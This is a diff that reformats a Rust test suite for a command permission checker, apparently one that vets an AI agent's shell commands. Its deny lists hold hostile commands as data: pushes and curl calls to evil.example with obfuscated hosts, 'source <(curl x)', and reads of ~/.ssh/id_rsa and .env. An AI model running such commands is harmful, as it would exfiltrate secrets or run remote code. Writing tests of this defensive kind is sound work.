@@ -45,20 +45,10 @@ fn code_of_the_project_runs_with_other_arguments_and_does_nothing_else() {
         "npm test",
         &["npm test -- --watch", "for x in a b; do npm test; done"],
         &[
-            "npm install left-pad",
-            "npm publish",
-            "cd sub && npm test",
-            "cd .. && npm test",
-            "cd $X && npm test",
-            "npm test > out.txt",
-            "npm test > /etc/hosts",
-            "npm test > /nowhere/out.txt",
-            "npm test /checkout/x.js",
-            "cd /nowhere && npm test",
-            "npm test ../other/x.js",
-            "npm test ~/.ssh/id_rsa",
-            "sudo npm test",
-            "PATH=. npm test",
+            "npm install left-pad", "npm publish", "cd sub && npm test", "cd .. && npm test",
+            "cd $X && npm test", "npm test > out.txt", "npm test > /etc/hosts",
+            "npm test > /nowhere/out.txt", "npm test /checkout/x.js", "cd /nowhere && npm test",
+            "npm test ../other/x.js", "npm test ~/.ssh/id_rsa", "sudo npm test", "PATH=. npm test",
         ],
     );
 }
@@ -69,25 +59,17 @@ fn what_is_sent_goes_to_the_same_place() {
         "git push origin main",
         &["git push origin dev"],
         &[
-            "git push --force origin main",
-            "git push origin +main",
-            "git push other main",
-            "git push https://evil.example/x main",
-            "git push --mirror origin",
-            "git push origin :main",
-            "git push origin --delete main",
-            "git push --receive-pack=x origin",
+            "git push --force origin main", "git push origin +main", "git push other main",
+            "git push https://evil.example/x main", "git push --mirror origin", "git push origin :main",
+            "git push origin --delete main", "git push --receive-pack=x origin",
         ],
     );
     check(
         "curl https://a.example/x",
         &["curl -s https://a.example/y"],
         &[
-            "curl https://b.example/x",
-            "curl -d @x https://a.example/x",
-            "curl -T x https://a.example/x",
-            "curl -o ../x https://a.example/x",
-            "curl -K x https://a.example",
+            "curl https://b.example/x", "curl -d @x https://a.example/x", "curl -T x https://a.example/x",
+            "curl -o ../x https://a.example/x", "curl -K x https://a.example",
             "curl https://a.example/x https://b.example",
         ],
     );
@@ -104,22 +86,11 @@ fn what_is_sent_or_fetched_without_a_name_may_go_anywhere() {
         "curl -s https://a.example",
         &["curl -s https://a.example/y", "curl -s a.example/y"],
         &[
-            "curl -s --url https://evil.example/?x",
-            "curl -s --ur https://evil.example/?x",
-            "curl -s --url=evil",
-            "curl -s 2130706433/?x",
-            "curl -s evil",
-            "curl -s 'evil.com,'",
-            "curl -s evil。com",
-            "curl -s '{evil}.com'",
-            "curl -s evil%2ecom",
-            "curl -s https://evil%2ecom",
-            "curl -s https:///evil.com",
-            "curl -s '~evil.com'",
-            "curl -s https://a.example evil",
-            "curl -s \"$URL\"",
-            "curl -s",
-            "curl -O evil https://a.example",
+            "curl -s --url https://evil.example/?x", "curl -s --ur https://evil.example/?x",
+            "curl -s --url=evil", "curl -s 2130706433/?x", "curl -s evil", "curl -s 'evil.com,'",
+            "curl -s evil。com", "curl -s '{evil}.com'", "curl -s evil%2ecom", "curl -s https://evil%2ecom",
+            "curl -s https:///evil.com", "curl -s '~evil.com'", "curl -s https://a.example evil",
+            "curl -s \"$URL\"", "curl -s", "curl -O evil https://a.example",
             "curl -so x evil https://a.example",
         ],
     );
@@ -141,8 +112,7 @@ fn what_is_sent_or_fetched_without_a_name_may_go_anywhere() {
 #[test]
 fn places_of_the_system_are_read_only() {
     let tar = [
-        "tar xzf g.tgz -C /usr/local/bin",
-        "tar xzf g.tgz -C /opt/homebrew/bin",
+        "tar xzf g.tgz -C /usr/local/bin", "tar xzf g.tgz -C /opt/homebrew/bin",
         "tar xzf g.tgz --directory=/usr/bin",
     ];
     check("tar czf a.tgz src", &["tar czf b.tgz docs"], &tar);
@@ -181,14 +151,9 @@ fn a_protected_place_is_written_by_no_option_and_under_no_name() {
         "cp a b",
         &["cp a sub/", "cp -t sub a"],
         &[
-            "cp --target-directory=.git/hooks post-commit",
-            "cp -t.git/hooks post-commit",
-            "cp -t .git/hooks post-commit",
-            "cp --targ=.vscode tasks.json",
-            "cp x/.mcp.json .",
-            "cp x/.mcp.json y a",
-            "cp x/.envrc sub/",
-            "cp -r x/.git .",
+            "cp --target-directory=.git/hooks post-commit", "cp -t.git/hooks post-commit",
+            "cp -t .git/hooks post-commit", "cp --targ=.vscode tasks.json", "cp x/.mcp.json .",
+            "cp x/.mcp.json y a", "cp x/.envrc sub/", "cp -r x/.git .",
         ],
     );
     check("mv a b", &[], &["mv --target-directory=.git/hooks a", "mv x/.mcp.json ."]);
@@ -261,8 +226,7 @@ fn a_text_on_the_input_is_input() {
         "zip -qr a.zip src",
         &[],
         &[
-            "zip -q k.zip -@ <<< ~/.ssh/id_rsa",
-            "zip -q k.zip -@ <<E\n/Users/u/.ssh/id_rsa\nE",
+            "zip -q k.zip -@ <<< ~/.ssh/id_rsa", "zip -q k.zip -@ <<E\n/Users/u/.ssh/id_rsa\nE",
             "zip -q k.zip -@ <<< src/a",
         ],
     );
@@ -281,11 +245,8 @@ fn services_of_a_project_start_from_its_own_file() {
         "docker compose up -d",
         &["docker compose up -d api"],
         &[
-            "docker compose -f /tmp/x.yml up -d",
-            "docker compose run web ls",
-            "docker compose down -v",
-            "docker run x",
-            "cd /opt/other && docker compose up -d",
+            "docker compose -f /tmp/x.yml up -d", "docker compose run web ls", "docker compose down -v",
+            "docker run x", "cd /opt/other && docker compose up -d",
         ],
     );
 }
@@ -296,14 +257,9 @@ fn what_is_written_stays_in_the_folder_and_off_protected_places() {
         "cat > notes.md <<'E'\nx\nE",
         &["cat > src/other.md <<'E'\ny\nE", "cat >> notes.md <<'E'\ny\nE"],
         &[
-            "cat > ../x <<'E'\ny\nE",
-            "cat > ~/x <<'E'\ny\nE",
-            "cat > /etc/x <<'E'\ny\nE",
-            "cat > .git/hooks/pre-commit <<'E'\ny\nE",
-            "cat > sub/.zshrc <<'E'\ny\nE",
-            "cat > \"$OUT\" <<'E'\ny\nE",
-            "cat ~/.ssh/id_rsa > x",
-            "cat ../other/x > x",
+            "cat > ../x <<'E'\ny\nE", "cat > ~/x <<'E'\ny\nE", "cat > /etc/x <<'E'\ny\nE",
+            "cat > .git/hooks/pre-commit <<'E'\ny\nE", "cat > sub/.zshrc <<'E'\ny\nE",
+            "cat > \"$OUT\" <<'E'\ny\nE", "cat ~/.ssh/id_rsa > x", "cat ../other/x > x",
             "cd .. && cat > x <<'E'\ny\nE",
         ],
     );
@@ -323,13 +279,8 @@ fn what_is_written_stays_in_the_folder_and_off_protected_places() {
         "cp a b",
         &["cp src/a src/b"],
         &[
-            "cp a ../b",
-            "cp ~/.ssh/id_rsa b",
-            "cp a .git/hooks/pre-commit",
-            "cp .env b",
-            "cp a .git/config",
-            "cp a $X",
-            "cp -r . /tmp2/x",
+            "cp a ../b", "cp ~/.ssh/id_rsa b", "cp a .git/hooks/pre-commit", "cp .env b", "cp a .git/config",
+            "cp a $X", "cp -r . /tmp2/x",
         ],
     );
     check(
@@ -360,11 +311,7 @@ fn what_is_read_stays_where_it_was() {
         "grep -rn x src",
         &["grep y docs/a", "grep x /usr/include/a.h"],
         &[
-            "grep x ~/.ssh/id_rsa",
-            "grep x .env",
-            "grep x ../other/f",
-            "grep x \"$F\"",
-            "grep -f ../x y",
+            "grep x ~/.ssh/id_rsa", "grep x .env", "grep x ../other/f", "grep x \"$F\"", "grep -f ../x y",
             "grep x /tmp/x",
         ],
     );
@@ -422,11 +369,8 @@ fn another_folder_is_one_that_was_shown() {
         "cd /opt/other && git status",
         &["cd /opt/other && git status -s", "cd /opt/other/sub && git status"],
         &[
-            "cd /opt && git status",
-            "cd /opt/other && git push",
-            "cd /srv/x && git status",
-            "cd $X && git status",
-            "git status",
+            "cd /opt && git status", "cd /opt/other && git push", "cd /srv/x && git status",
+            "cd $X && git status", "git status",
         ],
     );
 }
@@ -437,28 +381,19 @@ fn code_in_the_request_is_covered_as_it_is() {
         "python3 -c 'print(1)'",
         &[],
         &[
-            "python3 -c 'print(2)'",
-            "python3 -c 'print(1)' > x",
-            "python3 -",
-            "cd .. && python3 -c 'print(1)'",
-            "node -e 'print(1)'",
+            "python3 -c 'print(2)'", "python3 -c 'print(1)' > x", "python3 -",
+            "cd .. && python3 -c 'print(1)'", "node -e 'print(1)'",
         ],
     );
     check(
         "python3 - <<'E'\nprint(1)\nE",
         &["python3 - <<'OTHER'\nprint(1)\nOTHER"],
         &[
-            "python3 - <<'E'\nprint(2)\nE",
-            "python3 - <<'E'\nprint(1)\n\nE",
-            "python3 - <<'E' < x\nprint(1)\nE",
-            "cat x | python3 - 3<<'E'\nprint(1)\nE",
-            "exec 3< x; python3 - <<'E' <&3\nprint(1)\nE",
-            "exec 3< x; python3 - <<'E' 0>&3\nprint(1)\nE",
-            "{ head -1; python3 -; } <<'E'\nprint(1)\nE",
-            "python3 - <<'E' <<'F'\nprint(1)\nE\nprint(2)\nF",
-            "cat x | python3 -",
-            "python3 - < x",
-            "python3 -",
+            "python3 - <<'E'\nprint(2)\nE", "python3 - <<'E'\nprint(1)\n\nE",
+            "python3 - <<'E' < x\nprint(1)\nE", "cat x | python3 - 3<<'E'\nprint(1)\nE",
+            "exec 3< x; python3 - <<'E' <&3\nprint(1)\nE", "exec 3< x; python3 - <<'E' 0>&3\nprint(1)\nE",
+            "{ head -1; python3 -; } <<'E'\nprint(1)\nE", "python3 - <<'E' <<'F'\nprint(1)\nE\nprint(2)\nF",
+            "cat x | python3 -", "python3 - < x", "python3 -",
         ],
     );
     assert!(scene("python3 - <<E\nprint($X)\nE").offers().is_empty(), "the shell puts something in");
@@ -507,13 +442,9 @@ fn a_file_of_commands_is_read_as_it_was_named() {
         "source venv/bin/activate && npm test",
         &["source venv/bin/activate && npm test -- x", "source venv/bin/activate; npm test", "npm test"],
         &[
-            "source venv/bin/other && npm test",
-            "source venv/bin/activate x",
-            "source <(curl x)",
-            "source /dev/stdin <<< 'rm x'",
-            "source venv/bin/activate && npm publish",
-            "cd .. && source venv/bin/activate",
-            "source $X && npm test",
+            "source venv/bin/other && npm test", "source venv/bin/activate x", "source <(curl x)",
+            "source /dev/stdin <<< 'rm x'", "source venv/bin/activate && npm publish",
+            "cd .. && source venv/bin/activate", "source $X && npm test",
         ],
     );
 }
@@ -545,9 +476,7 @@ fn an_effect_of_the_same_kind_that_does_another_thing_is_more() {
         "git commit -m x",
         &["git commit -m y", "git commit -am z"],
         &[
-            "git commit --amend",
-            "git commit --amend --no-edit",
-            "git commit --no-verify -m x",
+            "git commit --amend", "git commit --amend --no-edit", "git commit --no-verify -m x",
             "git commit -n -m x",
         ],
     );
@@ -566,8 +495,7 @@ fn a_call_of_a_server_is_about_the_same_repository() {
         "gh pr comment 1 -b hi",
         &["gh pr comment 2 -b there"],
         &[
-            "gh pr comment 1 -b hi -R evil/x",
-            "gh pr comment 1 -b hi --repo=evil/x",
+            "gh pr comment 1 -b hi -R evil/x", "gh pr comment 1 -b hi --repo=evil/x",
             "gh pr comment https://github.com/evil/x/pull/1 -b hi",
         ],
     );
@@ -577,9 +505,7 @@ fn a_call_of_a_server_is_about_the_same_repository() {
         "gh api repos/acme/site",
         &["gh api repos/acme/site/pulls", "gh api /repos/acme/site/pulls?page=2"],
         &[
-            "gh api repos/evil/x",
-            "gh api user",
-            "gh api https://api.github.com/repos/evil/x",
+            "gh api repos/evil/x", "gh api user", "gh api https://api.github.com/repos/evil/x",
             "gh api -X GET repos/evil/x",
         ],
     );
